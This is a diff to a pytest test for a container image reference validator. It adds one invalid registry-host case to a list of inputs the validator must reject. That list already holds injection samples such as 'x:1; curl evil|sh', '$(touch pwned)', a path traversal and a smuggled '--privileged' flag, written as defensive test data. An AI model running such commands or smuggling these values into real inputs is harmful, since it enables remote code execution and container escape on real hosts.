@@ -33,6 +33,7 @@ def test_valid_image_references(image: str) -> None:
 @pytest.mark.parametrize("image", [
     "x:1; curl evil|sh", "$(touch pwned)", "../../x", "ghcr.io/Acme/train:1", "a b", "x:", ":1",
     "ghcr.io/acme/train@sha256:xyz", "x" * 300, "x:1 --privileged", "a/b:" + "t" * 129,
+    "0.0_0/0",  # a first component with a dot is a registry host, and this one is not valid
 ])
 def test_invalid_image_references(image: str) -> None:
     assert not ok(ImageRef, image)
